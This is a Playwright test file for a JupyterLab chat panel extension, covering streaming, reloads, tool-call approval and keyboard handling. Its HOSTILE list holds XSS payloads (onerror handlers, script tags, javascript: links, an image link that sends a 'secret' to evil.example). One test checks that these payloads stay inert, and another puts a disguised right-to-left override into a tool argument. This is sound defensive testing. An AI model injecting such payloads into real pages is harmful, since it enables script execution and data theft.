@@ -1,0 +1,363 @@
+"""The chat panel in JupyterLab, as its user meets it."""
+
+import json
+import re
+
+import pytest
+from playwright.sync_api import expect
+from stub_model import Say
+
+LOAD = "%load_ext piano_jupyter"
+OPEN = f"{LOAD}\n%piano panel"
+TOOLS = """
+from piano_jupyter import tool
+
+@tool(asks=True)
+def delete_rows(table: str, where: str) -> str:
+    "Delete rows of a table."
+    return "3 rows deleted"
+"""
+HOSTILE = [
+    "<img src=x onerror='window.pwned = 1'>",
+    "<script>window.pwned = 1</script>",
+    "<svg onload='window.pwned = 1'></svg>",
+    "<iframe src='https://evil.example/frame'></iframe>",
+    "<style>* { display: none !important }</style>",
+    "<form action='https://evil.example/form'><input autofocus></form>",
+    "[a](javascript:window.pwned=1) ![b](https://evil.example/?q=secret) ![c](data:text/html,x)",
+    r"$\text{<img src=x onerror='window.pwned = 1'>}$ \(\href{javascript:window.pwned=1}{click}\)",
+    "<math><mtext><img src=x onerror='window.pwned = 1'></mtext></math>",
+]
+
+
+def box(nb):
+    return nb.panel.get_by_role("textbox", name="Message")
+
+
+def ask(nb, text):
+    box(nb).fill(text)
+    box(nb).press("Enter")
+
+
+def answers(nb, state="done"):
+    return nb.panel.locator(f".piano-entry[data-state='{state}']")
+
+
+def written(nb, state="done"):
+    """The finished text of answers, without thoughts, calls and buttons around it."""
+    return answers(nb, state).locator(".piano-done")
+
+
+def button(nb, name):
+    return nb.panel.get_by_role("button", name=name, exact=True)
+
+
+def test_an_answer_grows_in_the_panel_while_it_is_written(notebook, stub_model):
+    stub_model.says(Say("The answer is **42**.\n\n```python\nx = 42\n```", held=True))
+    nb = notebook([OPEN])
+    nb.run(0)
+
+    ask(nb, "What is the answer?")
+    expect(nb.panel.locator(".piano-said").first).to_have_text("What is the answer?")
+    expect(answers(nb, "writing").locator(".piano-text")).to_contain_text("The")
+    expect(box(nb)).to_have_value("")
+    expect(nb.panel.locator(".piano-text strong")).to_have_count(0)
+    stub_model.release.set()
+
+    expect(answers(nb).locator("strong")).to_have_text("42")
+    expect(answers(nb).locator("pre code .mi")).to_have_text("42")
+    expect(button(nb, "Stop")).to_be_hidden()
+
+
+def test_after_a_reload_of_the_page_it_is_all_there_and_goes_on(notebook, stub_model):
+    stub_model.says("first *answer*", Say("second answer, slowly", held=True))
+    nb = notebook([OPEN])
+    nb.run(0)
+    ask(nb, "one")
+    expect(answers(nb)).to_have_count(1)
+    ask(nb, "two")
+    expect(answers(nb, "writing")).to_have_count(1)
+    nb.save()
+
+    nb.reload()
+    expect(nb.panel.locator(".piano-said")).to_have_text(["one", "", "two", ""])
+    expect(nb.panel.locator("em")).to_have_text("answer")
+    expect(answers(nb, "writing").locator(".piano-text")).to_contain_text("second")
+    stub_model.release.set()
+
+    expect(written(nb).last).to_have_text("second answer, slowly")
+
+
+def test_two_views_of_a_panel_show_the_same(notebook, stub_model):
+    stub_model.says("to both")
+    nb = notebook([f"{LOAD}\npanel = get_ipython().run_line_magic('piano', 'panel')\npanel", "panel"])
+    nb.run(0)
+    nb.run(1)
+    first, second = (nb.root.locator(".piano-panel").nth(i) for i in (0, 1))
+
+    first.get_by_role("textbox", name="Message").fill("hello")
+    first.get_by_role("button", name="Send").click()
+
+    expect(first.locator(".piano-text")).to_contain_text("to both")
+    expect(second.locator(".piano-text")).to_contain_text("to both")
+    assert first.locator(".piano-entries").inner_html() == second.locator(".piano-entries").inner_html()
+
+
+def test_a_new_panel_in_a_new_kernel_shows_the_last_messages_and_earlier_ones_on_demand(notebook):
+    nb = notebook([f"{LOAD}\n%config PianoConfig.panel_messages = 4", "%piano panel"])
+    nb.run(0)
+    nb.run(1)
+    for i in range(3):
+        ask(nb, f"question {i}")
+        expect(answers(nb)).to_have_count(i + 1)
+
+    nb.restart()
+    nb.run(0)
+    nb.run(1)
+    expect(answers(nb)).to_have_count(2)
+    button(nb, "Show earlier messages").click()
+
+    expect(nb.panel.locator(".piano-said")).to_have_text(["question 0", "", "question 1", "", "question 2", ""])
+    expect(written(nb)).to_have_text([f"You said: question {i}" for i in range(3)])
+    expect(button(nb, "Show earlier messages")).to_be_hidden()
+
+
+def test_the_log_follows_only_a_reader_who_is_at_its_end(notebook, stub_model):
+    stub_model.says("line\n\n" * 60, Say("one\n\n" + "more\n\n" * 60, held=True))
+    nb = notebook([OPEN])
+    nb.run(0)
+    log = nb.panel.get_by_role("log")
+    ask(nb, "long?")
+    expect(answers(nb)).to_have_count(1)
+    followed = log.evaluate("node => node.scrollHeight - node.scrollTop - node.clientHeight")
+    ask(nb, "longer?")
+    expect(answers(nb, "writing")).to_have_count(1)
+    log.evaluate("node => { node.scrollTop = 40 }")
+    stub_model.release.set()
+    expect(answers(nb)).to_have_count(2)
+
+    assert followed < 2
+    assert log.evaluate("node => node.scrollTop") == 40
+
+
+def test_stop_ends_the_answer_and_keeps_what_was_said(notebook, stub_model):
+    stub_model.says(Say("word after word", held=True), "and now in full")
+    nb = notebook([OPEN])
+    nb.run(0)
+    ask(nb, "go on")
+    expect(answers(nb, "writing")).to_have_count(1)
+
+    button(nb, "Stop").click()
+    expect(answers(nb, "cancelled").locator(".piano-text")).to_contain_text("word")
+    nb.until(stub_model.gone.is_set)
+    button(nb, "Retry").click()
+
+    expect(written(nb)).to_have_text("and now in full")
+
+
+def test_send_and_stop_work_while_a_cell_runs(notebook, stub_model, tmp_path):
+    stub_model.says("a quick one", Say("a slow one", held=True))
+    go = tmp_path / "go"
+    nb = notebook([OPEN, f"import time, os\nwhile not os.path.exists({str(go)!r}): time.sleep(0.02)\nprint('over')"])
+    nb.run(0)
+    ask(nb, "before the cell")
+    expect(answers(nb)).to_have_count(1)
+
+    nb.run(1, wait=False)
+    expect(nb.cell(1).locator(".jp-InputPrompt")).to_have_text("[*]:")
+    ask(nb, "while it runs")
+    expect(answers(nb, "writing")).to_have_count(1)
+    button(nb, "Stop").click()
+    expect(answers(nb, "cancelled")).to_have_count(1)
+
+    assert not nb.has_ended(1)
+    go.touch()
+    nb.wait_for(1)
+    assert nb.text(1) == "over\n"
+
+
+def test_enter_sends_and_shift_enter_makes_a_new_line(notebook, stub_model):
+    nb = notebook([OPEN, "1"])
+    nb.run(0)
+
+    box(nb).fill("one")
+    box(nb).press("Shift+Enter")
+    box(nb).press_sequentially("two")
+    box(nb).press("Enter")
+
+    expect(answers(nb)).to_have_count(1)
+    expect(nb.panel.locator(".piano-said").first).to_have_text(re.compile("^one\ntwo$"))
+    assert stub_model.asked[-1]["messages"][-1]["content"] == "one\ntwo"
+    box(nb).fill("three")
+    box(nb).press("Control+Enter")
+    expect(answers(nb)).to_have_count(2)
+    assert nb.outputs(1) == []
+
+
+def test_enter_that_ends_a_composition_does_not_send(notebook, stub_model):
+    nb = notebook([OPEN])
+    nb.run(0)
+    box(nb).fill("にほ")
+
+    box(nb).dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True})
+    expect(box(nb)).to_have_value("にほ")
+    box(nb).fill("日本")
+    box(nb).press("Enter")
+
+    expect(answers(nb)).to_have_count(1)
+    expect(nb.panel.locator(".piano-said").first).to_have_text("日本")
+    assert len(stub_model.asked) == 1
+
+
+def test_plain_keys_in_the_panel_are_no_commands_of_the_notebook(notebook):
+    nb = notebook([OPEN, "'another'"])
+    nb.run(0)
+    places = [button(nb, "Send"), nb.panel.get_by_role("log"), box(nb)]
+
+    for place in places:
+        place.focus()
+        for key in ("d", "d", "x", "b", "Escape", "d", "d"):
+            nb.page.keyboard.press(key)
+
+    assert nb.sources() == [OPEN, "'another'"]
+    expect(box(nb)).to_have_value("ddxbdd")
+
+
+def test_a_failed_job_says_why_and_can_be_tried_again(notebook, stub_model):
+    stub_model.says(Say("the model is not well", status=400), "now it is")
+    nb = notebook([OPEN])
+    nb.run(0)
+    ask(nb, "are you well?")
+    expect(answers(nb, "failed").locator(".piano-note")).to_contain_text("the model is not well")
+
+    button(nb, "Retry").click()
+
+    expect(written(nb)).to_have_text("now it is")
+    expect(answers(nb, "failed")).to_have_count(0)
+
+
+@pytest.mark.parametrize(("choice", "result"), [("Approve", "3 rows deleted"), ("Deny", "the user did not allow")])
+def test_a_call_that_asks_shows_all_of_itself_and_waits_for_the_answer(notebook, stub_model, choice, result):
+    where = "1 = 1 \u202eoops" + " " * 3000 + "-- the tail" + "\n" * 400 + "<b>end</b>"
+    stub_model.says(Say("", call=("delete_rows", {"table": "t", "where": where})), "Finished.")
+    nb = notebook(
+        [LOAD + TOOLS, "await piano.update_agent('Assistant', enabled_tools=['delete_rows']);", "%piano panel"]
+    )
+    for i in range(3):
+        nb.run(i)
+    ask(nb, "clean up")
+    card = nb.panel.locator(".piano-call[data-state='asks']")
+    expect(card).to_contain_text("wants to run delete_rows")
+    text = card.locator("pre").nth(1)
+    expect(text).to_have_text("1 = 1 U+202Eoops␣ × 3000-- the tail↵ × 400\n<b>end</b>")
+    text.evaluate("node => { node.scrollTop = node.scrollHeight }")
+    assert text.evaluate("node => node.scrollWidth <= node.clientWidth")
+
+    button(nb, choice).click()
+
+    expect(written(nb).last).to_have_text("Finished.")
+    assert result in stub_model.asked[-1]["messages"][-1]["content"]
+    expect(nb.panel.locator(".piano-call")).to_have_attribute("data-state", "done" if choice == "Approve" else "failed")
+
+
+def test_hostile_text_does_nothing_in_the_panel_in_a_cell_or_in_the_saved_notebook(notebook, stub_model):
+    everything = "\n\n".join(HOSTILE)
+    stub_model.says(
+        Say(everything, call=("<img src=x onerror='window.pwned=1'>", {"a": everything}), reasoning=everything),
+        everything,
+        everything,
+    )
+    nb = notebook([OPEN, f"%%piano\n{everything}"])
+    asked_for, dialogs = [], []
+    nb.page.on("request", lambda request: asked_for.append(request.url))
+    nb.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+
+    def looks_harmless():
+        assert nb.page.evaluate("() => window.pwned") is None
+        assert [url for url in asked_for if "evil" in url or url.startswith("data:text")] == []
+        assert dialogs == []
+        shown = nb.root.locator(".piano-log, .jp-OutputArea-output:not(:has(.piano-panel))")
+        assert shown.locator("img, script, style, iframe, form, svg, input, object").count() == 0
+
+    nb.run(0)
+    ask(nb, everything)
+    expect(answers(nb)).to_have_count(1)
+    nb.panel.locator("summary:visible").first.click()
+    expect(nb.panel.locator(".piano-said").first).to_be_visible()
+    looks_harmless()
+    nb.run(1)
+    expect(nb.cell(1).locator(".jp-OutputArea-output").last).to_contain_text("evil.example")
+    looks_harmless()
+    nb.save()
+    nb.end_kernel()
+    nb.reload()
+    expect(nb.cell(1).locator(".jp-OutputArea-output").last).to_contain_text("evil.example")
+    looks_harmless()
+    nb.page.evaluate("() => window.pwned = undefined")
+
+
+def test_the_saved_notebook_holds_a_transcript_that_is_hidden_while_the_panel_lives(notebook, stub_model):
+    stub_model.says("It is **Paris**.")
+    nb = notebook([OPEN])
+    nb.run(0)
+    ask(nb, "The capital of France?")
+    expect(answers(nb)).to_have_count(1)
+
+    nb.until(lambda: "Paris" in json.dumps(nb.outputs(0)))
+    live, static = nb.save()["cells"][0]["outputs"]
+
+    expect(nb.root.locator(".piano-transcript")).to_be_hidden()
+    assert "".join(live["data"]["text/plain"]) == "ChatPanel('Chat')"
+    assert "<strong>Paris</strong>" in "".join(static["data"]["text/html"])
+    assert "Assistant: It is **Paris**." in "".join(static["data"]["text/plain"])
+
+
+def test_a_kernel_that_does_not_answer_is_named_after_a_while_and_the_text_stays(notebook):
+    nb = notebook([OPEN])
+    nb.run(0)
+    nb.restart()
+
+    ask(nb, "is anybody there?")
+
+    expect(nb.panel.get_by_role("alert")).to_contain_text("The kernel does not answer", timeout=8_000)
+    expect(box(nb)).to_have_value("is anybody there?")
+
+
+LOSE_ONE = """
+told = panel.send
+
+def lose_one(content):
+    if content["kind"] == "changes":
+        panel.send = told
+    else:
+        told(content)
+
+panel.send = lose_one
+"""
+
+
+def test_a_message_that_went_missing_is_made_up_for(notebook, stub_model):
+    stub_model.says("first", Say("second one", held=True))
+    nb = notebook([f"{LOAD}\npanel = get_ipython().run_line_magic('piano', 'panel')\npanel", LOSE_ONE])
+    nb.run(0)
+    ask(nb, "one")
+    expect(answers(nb)).to_have_count(1)
+    nb.run(1)
+
+    ask(nb, "two")
+    stub_model.release.set()
+
+    expect(written(nb).last).to_have_text("second one")
+    expect(nb.panel.locator(".piano-said")).to_have_text(["one", "", "two", ""])
+
+
+def test_what_cannot_be_done_is_said_in_a_sentence(notebook):
+    nb = notebook([OPEN, "%unload_ext piano_jupyter"])
+    nb.run(0)
+    expect(nb.panel.locator(".piano-empty")).to_be_visible()
+    nb.run(1)
+
+    ask(nb, "hello?")
+
+    expect(nb.panel.get_by_role("alert")).to_have_text("the chat of this panel was closed; run %piano panel again")
+    expect(box(nb)).to_have_value("hello?")
